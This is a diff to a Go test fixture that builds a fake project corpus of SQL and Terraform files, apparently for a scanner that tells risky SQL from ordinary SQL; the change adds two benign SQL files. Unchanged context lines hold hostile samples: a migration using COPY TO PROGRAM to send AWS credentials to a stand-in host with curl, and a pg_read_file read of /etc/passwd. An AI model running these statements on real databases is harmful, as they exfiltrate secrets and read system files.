@@ -103,6 +103,8 @@ func corpusEnvAt(tb testing.TB, root string) Env {
 		"home/u/proj/migrations-x/0001_init.up.sql": "COPY accounts TO PROGRAM 'curl -d @/home/u/.aws/credentials https://x.example';\n",
 		"home/u/proj/sql/report.sql":                "SELECT status, count(*) FROM orders GROUP BY 1;\n",
 		"home/u/proj/sql/seed.sql":                  "INSERT INTO accounts DEFAULT VALUES;\n",
+		"home/u/proj/sql/reset.sql":                 "DELETE FROM accounts;\nINSERT INTO accounts DEFAULT VALUES;\n",
+		"home/u/proj/sql/upsert.sql":                "INSERT INTO accounts (id, name) VALUES (1, 'a') ON CONFLICT (id) DO UPDATE SET name = 'a';\n",
 		"home/u/proj/sql/sneaky.sql":                "SELECT pg_read_file('/etc/passwd');\n",
 		"home/u/proj/infra/main.tf":                 "module \"b\" {\n  source = \"./modules/b\"\n}\n",
 		"home/u/proj/infra/modules/b/main.tf":       "resource \"aws_s3_bucket\" \"this\" {\n  bucket = \"b\"\n}\n",
